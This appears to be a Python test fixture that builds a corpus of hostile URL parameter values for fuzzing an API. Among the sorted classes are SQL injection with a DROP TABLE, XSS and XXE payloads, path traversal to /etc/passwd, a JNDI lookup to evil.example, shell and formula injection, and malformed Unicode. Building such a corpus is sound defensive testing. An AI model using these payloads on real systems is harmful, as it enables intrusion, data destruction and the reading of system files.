"""Hostile values, by class, as the bytes that stand behind a parameter's `=` on the wire.

`{name}` in a value is the name of the parameter that it is given to.
"""

import unicodedata
from base64 import urlsafe_b64encode
from typing import Final
from urllib.parse import quote


def sent(*texts: str) -> list[bytes]:
    """Texts as a careful client sends them: percent-encoded UTF-8."""
    return [quote(text, safe="").encode() for text in texts]


def escaped(*data: bytes) -> list[bytes]:
    """Bytes, percent-encoded."""
    return [quote(part, safe="").encode() for part in data]


def cursors(*texts: str) -> list[bytes]:
    """Places in a list, made up."""
    return [urlsafe_b64encode(text.encode()).rstrip(b"=") for text in texts]


NAME: Final = "市中"

CORPUS: Final[dict[str, list[bytes]]] = {
    "control": [
        *sent("\0", "a\0b", f"{NAME}\0", "\0" * 500, "\x01", "\x1b[31mred", "\x7f", "\x85"),
        *sent("\b\b"),
        *sent("a\r\nSet-Cookie: a=b", "\r\n\r\n<html>", "\t", "\n", "\x0b\x0c", "\u2028\u2029"),
        b"\x00",
        b"a\x00b",
        b"\r\nX: y",
    ],
    "bytes": [
        *escaped(b"\xff", b"\xfe\xff", b"\xff\xfe", b"\x80", b"\xbf" * 9, b"\xe5", b"\xe5\xb8"),
        *escaped(b"\xc0\x80", b"\xc0\xaf", b"\xc1\xbf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf"),
        *escaped(b"\xf8\x88\x80\x80\x80", b"\xfc\x84\x80\x80\x80\x80", b"\xf4\x90\x80\x80"),
        *escaped(b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xed\xa0\xbd\xed\xb8\x80", b"a\xffb"),
        *escaped(NAME.encode("gbk"), "㐀𠀀".encode("gb18030"), NAME.encode("big5")),
        *escaped(b"\x8e\xa2"),
        *escaped(NAME.encode("utf-16"), NAME.encode("utf-16-be"), NAME.encode("utf-32")),
        *escaped(b"\xe9"),
        NAME.encode("gbk"),
        NAME.encode(),
        b"\xff\xfe",
        b"\xed\xa0\x80",
        NAME.encode() + b"\xff",
    ],
    "invisible": sent(
        "市\u200b中", "市\u200d中", "市\u200c中", "\ufeff市中", "市\u2060中", "市\u00ad中",
        "\u200b", "\u200b" * 2000, "\u3164", "\u115f\u1160", "\U000e0041\U000e007f",
        "市\ufe0f中",
        "\u034f", "\u180e", "\u2800", "\u2062", "\ufff9a\ufffab\ufffb", "\u00a0", "\u3000",
        "\uffa0",
    ),
    "bidi": sent(
        "\u202e中市", "\u202dabc\u202c", "\u202b", "\u2066a\u2069", "\u2067\u2068",
        "\u200e\u200f",
        "\u061c", "gpj.\u202efdp", "שלום", "مرحبا", "\u202e" * 300,
    ),
    "composition": sent(
        unicodedata.normalize("NFD", "é"), unicodedata.normalize("NFD", "한글"), "ＧＤＰ",
        "２０１９",
        "ｶﾞ", "①②", "\ufdfa", "\ufdfa" * 400, "ﬁ", "ß", "İ", "\u212a", "Ⅻ", "\ufa11", "㍿",
        "⼀", "x²",
        "½", "e" + "\u0301" * 150, "\u0301", "ǅ", "ŉ", "ΐ", "\ud7b0", "Ａ" * 250,
    ),
    "lookalike": sent(
        "巿中", "市巾", "市申", "jinаn-shizhong", "gdр", "𝐠𝐝𝐩", "𝟐𝟎𝟏𝟗", "２O19", "l00",
        "2019‐01‐01",
        "−1", "–1", "1٫5", "٢٠١٩", "१९", "jinan‑shizhong", "市·中", "市中區", "巿", "ꓖꓓꓑ",
    ),
    "sql": sent(
        "' OR '1'='1", "'; DROP TABLE plans_target; --", '" OR ""="', "1) UNION SELECT NULL--",
        "'",
        "' AND pg_sleep(9)--", "1;ATTACH DATABASE '/tmp/x' AS y", "load_extension('x')",
        "';;--",
        "' || (SELECT body FROM plans_plan) || '", "/**/OR/**/1=1", "\\' OR 1=1 --", "`",
        "NULL",
        "x' ESCAPE '\\", "1 AND 1=(SELECT COUNT(*) FROM sqlite_master)", "$1", "?1", ":name",
        "@@version",
        "randomblob(1000000000)", "id) FROM plans_plan --", "-id;DROP", "id__startswith",
        "district__name",
    ),
    "patterns": sent(
        "%", "%%", "_", "__", "\\", "\\\\", "\\%", "%市中%", "市_", "*", "?", "[a-z]", "^", "$",
        "%_\\" * 60,
        "NEAR(a b, 9)", "a AND", "NOT", '"', '"市', "body:市", "(a+)+$", ".*", "(?:", "[",
        "\\1", "a" * 199 + "!",
    ),
    "markup": sent(
        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>",
        "'-alert(1)-'",
        "javascript:alert(1)", "data:text/html,<b>x", "</title><b>", "&lt;b&gt;", "&#60;b&#62;",
        "＜script＞",
        "<!--", "]]>",
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "<b>" * 300, "\u003cb\u003e", "//evil.example", "http://evil.example/?a=b#c",
    ),
    "formulas": sent(
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x","y")',
        "\t=1", "\r=1",
        "＝1+1", ";=1", "=" * 300, "'=1", "%3D1",
    ),
    "paths": [
        *sent("../../etc/passwd", "..\\..\\x", "....//....//", "/etc/passwd", "C:\\boot.ini"),
        *sent("//host/x"),
        *sent("file:///etc/passwd", ".", "..", "/", "~root", "CON", ".git/config"),
        *sent("policyapi.zip/../x"),
        *sent("policyapi.sqlite\0.zip", "targets/", "a" * 255, "x.json", ";jsessionid=1"),
        *sent("%2e%2e%2f"),
        b"..%2f..%2fetc%2fpasswd",
        b"..%c0%af..%c0%afx",
        b"../../../manage.py",
    ],
    "formats": sent(
        "%s%s%n%x", "%(x)s", "{0}", "{0.__class__.__mro__}", "{self}", "${7*7}", "{{7*7}}",
        "#{7*7}", "<%= 7 %>",
        "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "|id", ";id;", "__import__('os')",
        "%d" * 100, "{" * 300,
    ),
    "structures": [
        *sent('{"a":1}', "[]", "null", "true", '{"$gt":""}', "__proto__", "constructor"),
        *sent("!!python/object:x"),
        *sent("[" * 3000, "{" * 2000 + "}" * 2000, "a[b][c][d]", "(" * 2500, "a.b.c"),
        *sent("\\ud800", "\\u0000"),
        *sent("&#xD800;", "\\udcff\\ud83d", '"\\ud83d"', "%uD800", "%u5e02", "None"),
        *sent("undefined", "gASVBQ=="),
        *cursors("[]", "[null]", "[1]", '["x"]', '["x","y"]', "[1e999]", "[1e308,1]", "[true]"),
        *cursors("[{}]"),
        *cursors("[9223372036854775807]", "[9223372036854775808,1]"),
        *cursors("[18446744073709551616,1]", "[NaN]"),
        *cursors('["\\u0000"]', '["\\ud800"]', "[" * 2000 + "]" * 2000, "{}", '"x"', "1"),
        *cursors("[-1e300,-1]", "\xff"),
        *cursors('["' + "9" * 400 + '","x"]', '["NaN","x"]', '["1e99999","x"]'),
        *cursors('["9999-99-99","x"]', "[1,2,3]"),
    ],
    "numbers": sent(
        "NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1e-999", "1e17", "1e18", "9" * 40,
        "9" * 400, "9" * 7000,
        "2147483648", "9223372036854775807", "9223372036854775808", "18446744073709551616",
        "-9223372036854775809",
        "0x10", "0b1", "1_000", "1,000", "+1", "--1", "-0", "0", "-1", "00000001", "1.", ".5",
        "1e", "1/0", "0.1e-400",
        "1" + "0" * 39 + "." + "0" * 400 + "e-999", "1000001", "1.0", "true1",
    ),
    "days": sent(
        "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2019-02-30", "-0001-01-01",
        "2019-W01-1",
        "2019-12-31T23:59:60Z", "20191231", "2019-1-1", "now", "1e9",
    ),
    "emoji": sent(
        "😀", "👨‍👩‍👧‍👦", "🇨🇳", "👍🏽", "1️⃣", "😀" * 200, "\U0010ffff", "\ufffe", "\uffff",
        "\ufffd", "𠮷野家", "\ue000",
    ),
    "separators": [
        b"a;b=c", b"a;{name}=b", b"&&&&", b"====", b"a=b=c", b"%", b"%2", b"%zz", b"%%%%",
        b"%25" * 50, b"+" * 500,
        b"%2525252525", b"%252525252541", b"%26{name}%3Dx", b",", b",,,", b"a,,b", b"%EF%BC%8C",
        b"#x", b"?x=1", b"",
    ],
    "repetition": [
        b"x" + b"&{name}=x" * 3, b"x" + b"&{name}=x" * 199, b"x" + b"&{name}=x" * 700,
        b"&" * 7000,
        b"1" + b"".join(b"&p%d=1" % n for n in range(190)),
        b"1" + b"".join(b"&p%d=1" % n for n in range(1000)),
        b",".join([b"id"] * 50), b",".join([b"id"] * 2000),
        b",".join(b"x%d" % n for n in range(50)),
        b",".join(b"x%d" % n for n in range(1300)), b",".join(sent(NAME) * 50),
        b",".join(sent(NAME) * 400),
        b"," * 7000, b"-" * 6000, b"1" + b"&{name}[]=1" * 100, b"1" + b"&{name}%00=1",
        b"x&" + b"a" * 7000,
    ],
    "length": [
        b"a" * 60, b"a" * 200, b"a" * 201, b"a" * 7_900, b"a" * 8_000, b"a" * 100_000,
        b"%61" * 2_600,
        b"%E5%B8%82" * 66, b"%E5%B8%82" * 880, b"%E5%B8%82" * 11_000, b"%F0%9F%98%80" * 9_000,
        b"<b>" * 33_000,
        b"+".join(b"w%d" % n for n in range(1000)), b"+".join(b"w%d" % n for n in range(60)),
        b"+".join(bytes([97 + n % 26]) for n in range(100)),
        b"+".join(sent("市", "中", "区") * 30),
        b"%20" * 2_600, b"%00" * 33_000, b"%FF" * 33_000,
    ],
}  # fmt: skip

STRINGS: Final[list[tuple[str, bytes]]] = [
    (kind, value) for kind, values in CORPUS.items() for value in values
]
"""Every value with its class."""
